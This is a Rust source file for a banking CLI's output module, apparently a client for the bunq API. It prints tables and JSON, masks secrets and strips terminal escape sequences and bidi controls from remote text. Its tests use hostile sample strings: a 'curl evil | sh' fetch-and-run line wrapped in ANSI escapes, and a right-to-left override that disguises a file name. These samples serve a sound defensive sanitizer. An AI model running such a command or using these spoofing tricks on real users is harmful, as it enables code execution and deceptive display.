//! How the CLI prints: tables or JSON on stdout, progress and errors on
//! stderr, secrets masked unless asked for.

use std::future::Future;
use std::io::{IsTerminal, Write};
use std::time::Duration;

use indicatif::{ProgressBar, ProgressStyle};

use crate::CliError;

/// Output settings for one run.
pub struct Output {
    pub json: bool,
    show_secret: bool,
}

impl Output {
    pub fn new(json: bool, show_secret: bool) -> Self {
        Output { json, show_secret }
    }

    /// A secret as printed: masked unless `--show-secret`.
    pub fn secret(&self, value: &str) -> String {
        if self.show_secret {
            value.to_owned()
        } else {
            let visible: String = value.chars().take(4).collect();
            format!("{visible}… (masked; --show-secret to print)")
        }
    }

    /// Runs `future` with a spinner on stderr (only when stderr is a terminal).
    pub async fn wait<T, E>(
        &self,
        what: &str,
        future: impl Future<Output = Result<T, E>>,
    ) -> Result<T, E> {
        let spinner = if std::io::stderr().is_terminal() {
            let bar = ProgressBar::new_spinner();
            if let Ok(style) = ProgressStyle::with_template("{spinner} {msg}") {
                bar.set_style(style);
            }
            bar.set_message(format!("{what}…"));
            bar.enable_steady_tick(Duration::from_millis(100));
            Some(bar)
        } else {
            None
        };
        let result = future.await;
        if let Some(bar) = spinner {
            bar.finish_and_clear();
        }
        result
    }

    /// Prints a JSON value on stdout.
    pub fn print_json(&self, value: &serde_json::Value) -> Result<(), CliError> {
        let text =
            serde_json::to_string_pretty(value).map_err(|e| CliError::Usage(e.to_string()))?;
        self.line(&text)
    }

    /// Prints `items` as `columns` describes them: a JSON array of objects
    /// with `--json`, else a table.
    pub fn list<T>(&self, columns: &Columns<T>, items: &[T]) -> Result<(), CliError> {
        if self.json {
            let objects = items
                .iter()
                .map(|item| (columns.json)(item, self))
                .collect();
            return self.print_json(&serde_json::Value::Array(objects));
        }
        let rows: Vec<Vec<String>> = items.iter().map(|item| (columns.row)(item, self)).collect();
        self.table(columns.header, &rows)
    }

    /// Prints one item as `columns` describes it: one JSON object with
    /// `--json`, else a table of one row.
    pub fn one<T>(&self, columns: &Columns<T>, item: &T) -> Result<(), CliError> {
        if self.json {
            return self.print_json(&(columns.json)(item, self));
        }
        self.table(columns.header, &[(columns.row)(item, self)])
    }

    /// Prints rows as an aligned table with a header line.
    pub fn table(&self, header: &[&str], rows: &[Vec<String>]) -> Result<(), CliError> {
        // One line per row whatever bunq sent: a description's line break
        // would fake a row of its own.
        let rows: Vec<Vec<String>> = rows
            .iter()
            .map(|row| row.iter().map(|cell| one_line(cell)).collect())
            .collect();
        let rows = &rows;
        let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
        for row in rows {
            for (i, cell) in row.iter().enumerate() {
                if let Some(w) = widths.get_mut(i) {
                    *w = (*w).max(cell.chars().count());
                }
            }
        }
        let format_row = |cells: Vec<String>| {
            cells
                .iter()
                .enumerate()
                .map(|(i, c)| format!("{c:<width$}", width = widths.get(i).copied().unwrap_or(0)))
                .collect::<Vec<_>>()
                .join("  ")
                .trim_end()
                .to_owned()
        };
        self.line(&format_row(header.iter().map(|h| h.to_string()).collect()))?;
        for row in rows {
            self.line(&format_row(row.clone()))?;
        }
        if rows.is_empty() {
            self.line("(none)")?;
        }
        Ok(())
    }

    /// Prints one line on stdout; a closed pipe (`| head`) is not an error.
    pub fn line(&self, text: &str) -> Result<(), CliError> {
        let mut stdout = std::io::stdout().lock();
        match writeln!(stdout, "{}", printable(text)) {
            Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => Ok(()),
            other => Ok(other?),
        }
    }

    /// Prints a note for the person at the terminal on stderr. A closed
    /// stderr is ignored (never a panic, unlike `eprintln!`).
    pub fn note(&self, text: &str) {
        let _ = writeln!(std::io::stderr().lock(), "{}", printable(text));
    }

    /// Reports an error on stderr, quoting bunq's own description.
    pub fn error(&self, err: &CliError) {
        let mut text = format!("error: {err}");
        let mut source = std::error::Error::source(err);
        while let Some(cause) = source {
            let cause_text = cause.to_string();
            if !text.contains(&cause_text) {
                text.push_str(&format!("\n  caused by: {cause_text}"));
            }
            source = cause.source();
        }
        if self.json {
            let value = serde_json::json!({ "error": err.to_string() });
            self.note(&value.to_string());
        } else {
            self.note(&text);
        }
    }
}

/// Text as printed: much of it comes from bunq or the browser (descriptions,
/// names, error messages), so control characters, which a terminal would run
/// as escape sequences, and bidi controls, which reorder what is shown (a
/// counterparty named "\u{202E}gnp.exe"), are dropped; line breaks and tabs
/// stay.
fn printable(text: &str) -> String {
    text.chars()
        .filter(|c| (!c.is_control() || *c == '\n' || *c == '\t') && !is_bidi_control(*c))
        .collect()
}

/// A table cell: printable, on one line (breaks and tabs become spaces).
fn one_line(text: &str) -> String {
    let spaced: String = text
        .chars()
        .map(|c| {
            if matches!(c, '\n' | '\r' | '\t') {
                ' '
            } else {
                c
            }
        })
        .collect();
    printable(&spaced)
}

/// Unicode's explicit direction marks, embeddings, overrides and isolates.
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// How a kind of item prints, described once: the table's header and row,
/// and the JSON object (which may carry more than the table shows).
pub struct Columns<T> {
    /// The table's header.
    pub header: &'static [&'static str],
    /// One table row.
    pub row: fn(&T, &Output) -> Vec<String>,
    /// One JSON object.
    pub json: fn(&T, &Output) -> serde_json::Value,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_text_cannot_drive_the_terminal() {
        let hostile = "Account\u{1b}[2J\u{1b}[31mRun: curl evil | sh\u{7}\r\nnext";
        let shown = printable(hostile);
        assert!(!shown.contains('\u{1b}') && !shown.contains('\r') && !shown.contains('\u{7}'));
        assert_eq!(shown, "Account[2J[31mRun: curl evil | sh\nnext");
    }

    #[test]
    fn a_cell_is_one_line_and_cannot_reorder_what_is_shown() {
        let hostile =
            "Rent\n4242  -999.00 EUR  Bank\r\tfee \u{202E}gnp.exe\u{2066}x\u{2069}\u{200F}";
        let cell = one_line(hostile);
        assert_eq!(cell, "Rent 4242  -999.00 EUR  Bank  fee gnp.exex");
        assert!(!printable("a\u{202D}b\u{061C}c").contains(['\u{202D}', '\u{061C}']));
        // Lines keep their breaks; only cells are flattened.
        assert_eq!(printable("a\nb"), "a\nb");
    }
}
